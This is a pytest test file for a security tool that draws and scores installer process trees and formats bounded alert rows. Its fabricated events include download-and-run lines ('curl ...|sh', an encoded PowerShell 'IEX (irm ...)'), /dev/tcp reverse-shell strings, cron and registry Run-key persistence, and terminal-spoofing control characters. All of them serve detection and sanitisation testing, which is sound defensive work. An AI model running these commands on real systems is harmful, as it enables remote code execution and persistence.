"""Output rows: complete, bounded, readable as they stand."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from engine import START, completed, run, tree_rows
from installer_trees.drawing import TREE_CHARS, command_line
from installer_trees.model import Settings
from installer_trees.render import DETAIL_CHARS, JSON_CHARS, TREE_COLUMNS
from installer_trees.texts import counted, cut
from test_score import catalogue, install


def test_the_columns_come_in_the_order_of_the_contract() -> None:
    (row,) = tree_rows(install("sh"), catalogue({}))
    assert list(row) == TREE_COLUMNS


def test_a_small_tree_is_drawn_whole_with_its_signals() -> None:
    events = completed(
        [
            {"process": "dpkg -i a.deb"},
            {"process": "/bin/sh postinst", "process_name": "dash", "parent": 0},
            {"process": "curl x\ny", "parent": 1},
            {"process": "sh", "parent": 1},
            {"process": "ls", "parent": 0},
        ]
    )
    (row,) = tree_rows(events, catalogue({}, {"pattern": "^curl$"}))
    assert row["tree"] == [
        "dpkg -i a.deb [1000]",
        "├─ dash: /bin/sh postinst [1001]",
        "│  ├─ curl x y [1002]  <-- TST002",
        "│  └─ sh [1003]  <-- TST001",
        "└─ ls [1004]",
    ]
    assert (row["process_count"], row["tree_depth"]) == (5, 2)
    assert (row["first_time"], row["last_time"]) == (str(START), str(START + 4))


@pytest.mark.parametrize(
    ("name", "path", "command", "drawn"),
    [
        ("a.exe", "", r'"C:\My Programs\a.exe" -x', r'"C:\My Programs\a.exe" -x'),
        ("a.exe", r"C:\My Programs\a.exe", r"C:\my programs\A.exe -x", r"C:\my programs\A.exe -x"),
        ("My A.exe", "", "My A.exe -x", "My A.exe -x"),
        ("NET.EXE", "", "net user", "net user"),
        ("a.exe", "", "", "a.exe"),
        ("a.exe", "", "a.exe.bak -x", "a.exe: a.exe.bak -x"),
        ("a.exe", r"C:\x\a.exe", r"C:\x\a.exe.bak -x", r"a.exe: C:\x\a.exe.bak -x"),
        ("a", f"/{'x' * 200}/a", f"/{'x' * 200}/a -v", "a: " + cut(f"/{'x' * 200}/a -v", 160)),
        ("b.exe", "", r'"C:\My Programs\a.exe" b.exe', r'b.exe: "C:\My Programs\a.exe" b.exe'),
    ],
)
def test_a_name_stands_before_a_command_that_does_not_begin_with_it(
    name: str, path: str, command: str, drawn: str
) -> None:
    events = install("x")
    events[1].update(process_name=name, process_path=path, process=command)
    (row,) = tree_rows(events, catalogue({}))
    assert row["tree"][1] == f"└─ {drawn} [1001]"


def test_a_huge_tree_keeps_the_branches_with_signals_and_says_what_it_left_out() -> None:
    events = install(*["ls"] * 3000, "sh -c deep")
    (row,) = tree_rows(events, catalogue({}))
    assert any("sh -c deep" in line for line in row["tree"])
    assert row["tree"][-1] == "... 2,942 more processes left out, 0 of them with signals"
    assert len("\n".join(row["tree"])) < TREE_CHARS + 100


def test_console_hosts_that_say_nothing_are_counted_and_not_drawn() -> None:
    console = {
        "process": "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
        "process_name": "conhost.exe",
        "parent": 0,
    }
    marked = {**console, "process": f"{console['process']} deep"}
    programs = [{"process": "dpkg -i a.deb"}, {"process": "cmd /c a", "parent": 0}]
    below = {"process": "x.exe", "parent": 5}
    events = completed([*programs, console, console, marked, console, below])
    pipeline, kept = run(events, catalogue({"field": "process", "pattern": "deep"}))
    (row,) = pipeline.tree_rows(kept)
    assert [line.split("conhost.exe")[-1] for line in row["tree"] if "conhost" in line] == [
        " 0xffffffff -ForceV1 deep [1004]  <-- TST001",
        " 0xffffffff -ForceV1 [1005]",
    ], "one has a signal, one a child"
    assert row["tree"][-1] == "... 2 console hosts left out"
    shown = list(pipeline.process_rows(kept, only_drawn=True))
    assert len(shown) == len(row["tree"]) - 1


def test_what_matters_is_drawn_however_long_the_lines_before_it_are() -> None:
    events = install(*["ls " + f"{i:0>200}" for i in range(35)], "sh -c deep")
    pipeline, kept = run(events, catalogue({}))
    (row,) = pipeline.tree_rows(kept)
    *lines, last = row["tree"]
    assert lines[0] == "dpkg -i a.deb [1000]"
    assert lines[-1] == "└─ sh -c deep [1036]  <-- TST001"
    assert TREE_CHARS - 200 < len("\n".join(lines)) <= TREE_CHARS
    assert last == f"... {37 - len(lines)} more processes left out, 0 of them with signals"
    shown = [r["process_id"] for r in pipeline.process_rows(kept, only_drawn=True)]
    assert [f"[{pid}]" for pid in shown] == [line.split("  <-- ")[0][-6:] for line in lines]


def test_each_signal_is_drawn_once_before_the_strongest_is_drawn_again() -> None:
    decoys = ["curl " + "c" * 200] * 70
    knowledge = catalogue({"weight": "90", "pattern": "^curl$"}, {"weight": "30"})
    (row,) = tree_rows(install(*decoys, "sh -c deep"), knowledge)
    assert "sh -c deep" in row["tree"][-2]
    left_out = 72 - len(row["tree"]) + 1
    said = f"... {left_out} more processes left out, {left_out} of them with signals"
    assert row["tree"][-1] == said


@pytest.mark.parametrize("length", [10, 150])
def test_what_lies_too_deep_is_drawn_without_all_that_is_above_it(length: int) -> None:
    commands = ["dpkg -i a.deb", *["ls " + "x" * length] * 70, "sh -c deep"]
    events = completed(
        [{"process": c, **({"parent": i - 1} if i else {})} for i, c in enumerate(commands)]
    )
    pipeline, kept = run(events, catalogue({}))
    (row,) = pipeline.tree_rows(kept)
    assert row["tree"][-2].strip() == "(depth 71) sh -c deep [1071]  <-- TST001"
    assert row["tree"][-1].endswith("more processes left out, 0 of them with signals")
    shown = list(pipeline.process_rows(kept, only_drawn=True))
    assert len(shown) == len(row["tree"]) - 1


HOSTILE = "x\n└─ msiexec.exe /V [4]\n... nothing suspicious"
MARKS = "\x1b[2K\x85\x9b\u061c\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069"


@pytest.mark.parametrize("field", ["process_name", "process_id", "user", "dest", "process"])
def test_composed_texts_hold_no_line_ends_controls_or_marks_of_direction(field: str) -> None:
    events = install("sh")
    for event in events if field in ("dest", "user") else events[1:]:
        event[field] = HOSTILE + MARKS
    own = {name: events[1][name] for name in ("dest", "process_id", "_time")}
    events.append({**own, "file_path": "/etc/cron.d/" + MARKS, "action": "created" + MARKS})
    file = {"kind": "file", "field": "file_path", "pattern": "/cron"}
    (row,) = tree_rows(events, catalogue({"field": "process", "pattern": "."}, file))
    assert (len(row["tree"]), len(row["signal_detail"])) == (2, 2)
    composed = "".join([*row["tree"], *row["signal_detail"], row["risk_message"]])
    assert "└─ msie" in composed
    assert not set(composed) & {"\n", *MARKS.replace("[2K", "")}
    if field in ("dest", "user"):
        assert row[field] == HOSTILE + MARKS, "what is searched for is as it came"


def test_an_endless_name_hides_nothing() -> None:
    """Where an event names no process, the name is what its command line begins with."""
    endless = f'"{"A" * 30_000}" -c "curl https://e.example/a.sh|sh"'
    events = install(endless)
    events[1]["process_name"] = ""
    (row,) = tree_rows(events, catalogue({"field": "process", "pattern": r"curl .*\|sh"}))
    assert row["tree"][1].endswith("[1001]  <-- TST001")
    assert row["signal_detail"][0].endswith("[1001] `curl https://e.example/a.sh|sh`")
    assert len(row["risk_message"]) < 500
    assert size(row) < 2_000


def size(row: dict[str, Any]) -> int:
    """Count the characters of a row as an index has it, with the names of the columns."""
    values = ("\n".join(v) if isinstance(v, list) else str(v) for v in row.values())
    return len("".join(f'{name}="{value}", ' for name, value in zip(row, values)))


def test_a_row_is_below_what_splunk_indexes_though_everything_in_it_is_long() -> None:
    long = "x" * 50_000
    fields = "dest user process_guid process_id parent_process_name parent_process".split()
    hostile = {name: f"{name} {long}" for name in fields}
    top = {**hostile, "process_name": "dpkg", "process": "dpkg -i " + long, "_time": START}
    events = [top]
    for i in range(80):
        same = {"dest": top["dest"], "user": top["user"], "_time": START + i}
        child = {**same, "process_guid": f"g{i} {long}", "process_id": f"{i} {long}"}
        process = {
            "process_name": f"sh{i} {long}",
            "process": f"sh {i} {long} https://e.example/{i}{long}",
        }
        parent = {"parent_process_guid": top["process_guid"], "parent_process_name": "dpkg"}
        events.append({**child, **process, **parent})
        events.append({**child, "file_path": f"/{i}{long}", "action": long})
    changes = [{"title": f"{i} {long}", "pattern": f"^sh{i} ", "weight": "20"} for i in range(40)]
    written = {"kind": "file", "field": "file_path", "title": long}
    changes += [{**written, "pattern": f"^/{i}x"} for i in range(40, 60)]
    (row,) = tree_rows(events, catalogue(*changes))
    assert row["process_count"] == 81
    assert len(row["signal"]) == 60
    assert size(row) < 10_000
    assert json.loads(row["score_json"])["signals_left_out"] > 0
    assert row["signal_detail"][0].startswith("TST")
    assert row["signal_detail"][-1].endswith("more signals left out")
    assert len(row["threat_object"]) == len(row["threat_object_type"]) > 0
    assert min(len(row["process"]), len(row["parent_process"])) > 100


def test_every_part_of_a_row_is_bounded() -> None:
    changes = [{"title": f"signal {i} " + "t" * 100, "pattern": "^s" + "h?" * i} for i in range(80)]
    wide = install("sh " + "x" * 100_000, process="dpkg -i " + "a" * 50_000)
    (row,) = tree_rows(wide, catalogue(*changes))
    assert len("\n".join(row["signal_detail"])) < DETAIL_CHARS + 100
    assert row["signal_detail"][-1].endswith("more signals left out")
    assert len(row["score_json"]) <= JSON_CHARS
    assert json.loads(row["score_json"])["signals_left_out"] > 0
    assert len(row["process"]) <= 1_000
    text = "".join("\n".join(v) if isinstance(v, list) else str(v) for v in row.values())
    assert len(text) < 10_000


def test_one_is_not_many() -> None:
    assert counted(1, "more process") == "1 more process"
    assert counted(2_942, "more process") == "2,942 more processes"
    assert counted(1, "more signal") == "1 more signal"
    assert counted(0, "more signal") == "0 more signals"


def test_a_long_text_is_cut_in_the_middle_on_one_line() -> None:
    assert cut("short\n\ttext", 40) == "short text"
    long = cut("begin " + "x" * 1000 + " end", 40)
    assert len(long) == 40
    assert long.startswith("begin ")
    assert long.endswith(" end")


@pytest.mark.parametrize("mark", MARKS.replace("[2K", ""))
def test_a_mark_that_could_repaint_or_turn_a_line_is_a_blank(mark: str) -> None:
    assert cut(f"a{mark}b", 40) == "a b"
    assert cut(f"{mark}a{mark}", 40) == "a"


def test_the_risk_message_reads_like_a_sentence() -> None:
    (row,) = tree_rows(install("sh -c x"), catalogue({"weight": "70"}))
    assert row["risk_message"] == (
        "deb install on host1 by user1 (`dpkg -i a.deb`) scored 70 (high). a shell: sh, `sh -c x`."
    )
    assert (row["risk_score"], row["risk_object"], row["risk_object_type"]) == (
        70,
        "host1",
        "system",
    )


def shown(row: dict[str, Any]) -> str:
    """Return what stands between the backquotes of a row's only signal."""
    (line,) = row["signal_detail"]
    text = line.split("`", 1)[1].rsplit("`", 1)[0]
    assert f"`{text}`" in row["risk_message"]
    return str(text)


@pytest.mark.parametrize(
    ("field", "pattern", "command", "text"),
    [
        ("process", "(?<=x )/", "chmod +x /tmp/a", "/tmp/a"),
        ("process", "chmod [+]x /", "chmod +x /tmp/a -v", "chmod +x /tmp/a"),
        ("process", r"tcp/[\d.]+/\d", "sh -c 'x /dev/tcp/203.0.113.2/8088'",
         "/dev/tcp/203.0.113.2/8088"),
        ("process", r"Temp\\", r'sh "C:\Temp\a.exe" /S', r"C:\Temp\a.exe"),
        ("process", "sh -c ", "sh -c x", "sh -c"),
        ("process", "Temp", r'"C:\Temp\a.exe" /S', r'"C:\Temp\a.exe" /S'),
        ("process", "(?=x)", "sh x", "sh x"),
        ("process_name", "^s", "sh -c x", "sh -c x"),
        ("process_name", "(?i)^power", "PowerShell -nop", "PowerShell -nop"),
        ("process", "(?i)^power", "PowerShell -nop", "PowerShell -nop"),
        ("parent_process_name", "^dp", "sh -c x", "sh -c x (started by dpkg)"),
        ("parent_process_path", "dpkg", "sh -c x", "sh -c x (started by /usr/bin/dpkg)"),
        ("parent_process", "-i a", "sh -c x", "-i a.deb"),
    ],
)  # fmt: skip
def test_a_match_is_shown_in_whole_words(field: str, pattern: str, command: str, text: str) -> None:
    knowledge = catalogue({"field": field, "pattern": pattern, "scope": "child"})
    (row,) = tree_rows(install(command, process_path="/usr/bin/dpkg"), knowledge)
    assert shown(row) == text


def test_a_word_without_end_is_shown_in_part() -> None:
    (row,) = tree_rows(
        install("sh " + "a" * 9_000), catalogue({"field": "process", "pattern": "aa"})
    )
    assert row["signal_detail"][0].endswith(f" `{'a' * 122}`")


def test_who_started_a_process_is_said_however_long_its_command_is() -> None:
    (row,) = tree_rows(
        install("sh -c " + "x" * 900), catalogue({"field": "parent_process_name", "pattern": "dp"})
    )
    assert row["signal_detail"][0].endswith("xxx (started by dpkg)`")
    assert row["risk_message"].endswith("xxx (started by dpkg)`.")


KEY = r"HKCU\Run\a"


@pytest.mark.parametrize(
    ("kind", "field", "pattern", "event", "text"),
    [
        ("file", "file_path", "/cron.d/c", {"file_path": "/etc/cron.d/c7"}, "/etc/cron.d/c7"),
        ("file", "action", "^cre", {"file_path": "/etc/cron.d/c7"}, "/etc/cron.d/c7"),
        ("network", "dest_ip_type", "public", {"dest_ip": "203.0.113.9"}, "203.0.113.9"),
        ("network", "dest_port", "4", {"dest_ip": "8.8.8.8", "dest_port": "443"}, "8.8.8.8:443"),
        ("network", "url", "tps", {"url": "https://e.example/a"}, "https://e.example/a"),
        ("service", "service_path", "mp", {"service_name": "a", "service_path": "/tmp/b -d"},
         "a /tmp/b -d"),
        ("registry", "registry_path", "Run", {"registry_path": KEY}, KEY),
        ("registry", "registry_path", "Run",
         {"registry_path": KEY[:-2], "registry_value_name": "a"}, KEY),
        ("registry", "registry_path", "Run", {"registry_path": KEY, "registry_value_data": "b.exe"},
         rf"{KEY} = b.exe"),
        ("registry", "registry_value_data", "ev",
         {"registry_path": KEY, "registry_value_data": "x " * 400 + "evil.exe y"},
         rf"{KEY} = evil.exe"),
    ],
)  # fmt: skip
def test_of_an_event_its_target_is_shown(
    kind: str, field: str, pattern: str, event: dict[str, str], text: str
) -> None:
    own = {"process_id": 1001, "dest": "host1", "_time": START + 1, "action": "created"}
    events = [*install("ls -l"), {**own, **event}]
    (row,) = tree_rows(events, catalogue({"kind": kind, "field": field, "pattern": pattern}))
    assert shown(row) == text
    assert f": ls [1001] -> {kind} created `{text}`" in row["signal_detail"][0]


def test_a_path_is_shown_with_both_its_quotes() -> None:
    command = r'x "C:\My Programs\a.exe" -y'
    (row,) = tree_rows(install(command), catalogue({"field": "process", "pattern": "Prog.{9,20}e"}))
    assert shown(row) == r"Programs\a.exe"
    (row,) = tree_rows(install(command), catalogue({"field": "process", "pattern": "C:.{9,20} -"}))
    assert shown(row) == r'"C:\My Programs\a.exe" -y'


def test_of_several_matches_that_on_the_most_marked_process_is_shown() -> None:
    knowledge = catalogue({"weight": "70"}, {"field": "process", "pattern": "curl"})
    events = install("sh -c a", "sh -c curl", "sh -c b", "sh -c curl")
    (row,) = tree_rows(events, knowledge)
    assert row["signal_detail"][0].endswith(": sh [1002] `sh -c curl`")
    assert "a shell: sh, `sh -c curl`; " in row["risk_message"]
    (row,) = tree_rows(events[:2] + events[3:4], knowledge)
    assert row["signal_detail"][0].endswith(": sh [1001] `sh -c a`"), "the order of the tree"


def test_a_signal_over_several_texts_keeps_them() -> None:
    several = {"pattern": "^(?:i|host)", "min_distinct": "2"}
    (row,) = tree_rows(install("id -u", "hostname -f"), catalogue(several))
    assert shown(row) == "host, i"
    deep = {"scope": "tree", "field": "tree_depth", "pattern": "1"}
    (row,) = tree_rows(install("id -u"), catalogue(deep))
    assert shown(row) == "1"


def threats(events: list[dict[str, Any]], *changes: dict[str, str]) -> list[tuple[str, str]]:
    (row,) = tree_rows(events, catalogue(*changes))
    return list(zip(row["threat_object_type"], row["threat_object"]))


ANY = {"field": "process", "pattern": ".", "scope": "child"}


def test_threats_come_by_kind_and_programs_that_every_host_has_do_not() -> None:
    caused = [
        {"registry_path": KEY},
        {"service_name": "a", "service_path": "/tmp/b -d"},
        {"file_path": "/etc/cron.d/x"},
        {"dest_ip": "203.0.113.9", "dest_port": "443"},
        {"dest_ip": "127.0.0.1", "dest_port": "443"},
    ]
    events = install("evil -x", "sh -c 'curl https://e.example/a.sh; id'", process_path="/tmp/dpkg")
    events[1]["process_path"] = "/tmp/evil"
    events[2]["process_path"] = "/bin/sh"
    own = {"process_id": 1002, "dest": "host1", "_time": START + 2, "action": "created"}
    events += [{**own, **event} for event in caused]
    fields = {"file": "file_path", "network": "dest_ip", "registry": "registry_path"}
    fields["service"] = "service_name"
    on_events = [{"kind": k, "field": f, "pattern": "."} for k, f in fields.items()]
    assert threats(events, {**ANY, "weight": "90"}, *on_events) == [
        ("url", "https://e.example/a.sh"),
        ("ip_address", "203.0.113.9"),
        ("file_path", "/tmp/evil"),
        ("file_path", "/etc/cron.d/x"),
        ("registry_path", KEY),
        ("service", "/tmp/b -d"),
        ("file_name", "a.deb"),
        ("process_name", "evil"),
    ]


@pytest.mark.parametrize("name", ["sh", "cmd.exe", "PowerShell.EXE", "python3.12", "net1.exe"])
def test_a_program_that_every_host_has_is_named_where_there_is_nothing_else(name: str) -> None:
    alone = install("x", process="dpkg -i")
    alone[1].update(process_name=name, process=name)
    assert threats(alone, ANY) == [("process_name", name)]
    alone[1]["process_path"] = "/tmp/" + name
    assert threats(alone, ANY) == [("file_path", "/tmp/" + name)]


@pytest.mark.parametrize(
    ("package", "threat"),
    [
        ("/pkgs/a.deb", ("file_name", "a.deb")),
        ("https://e.example/a.deb", ("url", "https://e.example/a.deb")),
        ("nginx", ("process_name", "sh")),
    ],
)
def test_a_package_file_is_named_under_its_install(package: str, threat: tuple[str, str]) -> None:
    events = completed(
        [
            {"process": f"dpkg -i {package}"},
            {"process": "dpkg --configure inner", "parent": 0},
            {"process": "sh", "parent": 1},
        ]
    )
    assert threats(events, {}) == [threat]


@pytest.mark.parametrize(
    ("command", "addresses"),
    [
        ("bash -c 'exec 3<>/dev/tcp/203.0.113.2/8088'", ["203.0.113.2"]),
        ("nc 203.0.113.2:80 127.0.0.1:81 1.2.3.4 999.1.1.1:2", ["203.0.113.2"]),
        ("ip route add 192.0.2.0/24", []),
    ],
)
def test_addresses_are_read_from_commands(command: str, addresses: list[str]) -> None:
    found = threats(install(command), ANY)
    assert [value for kind, value in found if kind == "ip_address"] == addresses


def test_urls_are_read_from_what_matched_outside_the_command() -> None:
    script = "IEX (irm http://192.0.2.44/u.ps1)"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    signal = {**ANY, "field": "process_decoded", "pattern": r"irm \S"}
    found = threats(install(f"powershell -enc {encoded}"), signal)
    assert found[0] == ("url", "http://192.0.2.44/u.ps1")


def test_the_id_of_a_tree_does_not_depend_on_what_else_was_searched() -> None:
    (alone,) = tree_rows(install("sh"), catalogue({}))
    other = [{**event, "dest": "host2"} for event in install("sh")]
    both = tree_rows(install("sh", "ls") + other, catalogue({"weight": "90"}))
    assert alone["installer_tree_id"] in {row["installer_tree_id"] for row in both}
    assert len({row["installer_tree_id"] for row in both}) == 2


def test_rows_are_sorted_by_score_then_time_and_minscore_keeps_from_there_up() -> None:
    events = []
    for i, commands in enumerate([["ls"], ["sh"], ["sh", "curl x"], ["sh"]]):
        for event in install(*commands):
            events.append({**event, "dest": f"host{i}", "_time": event["_time"] + 100 * i})
    pipeline, kept = run(events, catalogue({}, {"pattern": "^curl$"}), Settings(prevalence_bound=0))
    rows = list(pipeline.tree_rows(kept))
    assert [(r["dest"], r["installer_score"]) for r in rows] == [
        ("host2", 51), ("host1", 30), ("host3", 30), ("host0", 0),
    ]  # fmt: skip
    assert [k.score.value for k in pipeline.trees(30)] == [51, 30, 30]


def test_output_processes_has_every_input_column_and_the_added_ones() -> None:
    events = [{**event, "vendor_product": "Sysmon"} for event in install("sh", "ls")]
    pipeline, kept = run(events, catalogue({}))
    rows = list(pipeline.process_rows(kept))
    assert set(events[0]) <= set(pipeline.process_columns())
    assert [(r["node"], r["parent_node"], r["process_score"], r["signal"]) for r in rows] == [
        ("1. dpkg", "", 0, []),
        ("2. sh", "1. dpkg", 30, ["TST001"]),
        ("3. ls", "1. dpkg", 0, []),
    ]
    assert {(r["vendor_product"], r["tree_depth"]) for r in rows} == {("Sysmon", 0), ("Sysmon", 1)}


SETUP = r"C:\Program Files\Acme\setup.exe"


@pytest.mark.parametrize(
    ("name", "path", "command", "whole", "short"),
    [
        ("setup.exe", SETUP, f"{SETUP} /S", f"{SETUP} /S", "setup.exe /S"),
        ("setup.exe", "", f"{SETUP} /S", f"{SETUP} /S", "setup.exe /S"),
        ("setup.exe", "", f'"{SETUP}" /S', f'"{SETUP}" /S', "setup.exe /S"),
        ("SETUP.EXE", "", r"c:\a\setup /S", r"c:\a\setup /S", "setup /S"),
        ("msiexec.exe", "", "msiexec /i a.msi", "msiexec /i a.msi", "msiexec /i a.msi"),
        ("A B", "", "A B -x", "A B -x", "A B -x"),
        ("A B", "", "/A B.app/M/A B -x", "/A B.app/M/A B -x", "A B -x"),
        ("A B", "/V/A B 2/A B", "/V/A B 2/A B -x", "/V/A B 2/A B -x", "A B -x"),
        ("dash", "/bin/dash", "/bin/sh -c x", "dash: /bin/sh -c x", "dash: /bin/sh -c x"),
        ("a.sh", "", "/bin/sh ./a.sh b", "a.sh: /bin/sh ./a.sh b", "a.sh: /bin/sh ./a.sh b"),
        ("a.exe", "", r"C:\b.exe x\a.exe", r"a.exe: C:\b.exe x\a.exe", r"a.exe: C:\b.exe x\a.exe"),
        ("id", "", "", "id", "id"),
        ("", "", "ls -l", "ls -l", "ls -l"),
        ("dpkg", "", "/bin/dpkg\t-i\n a", "/bin/dpkg -i a", "dpkg -i a"),
    ],
)
def test_what_a_process_is_called(
    name: str, path: str, command: str, whole: str, short: str
) -> None:
    assert command_line(name, command, path) == whole
    assert command_line(name, command, path, folder=False) == short
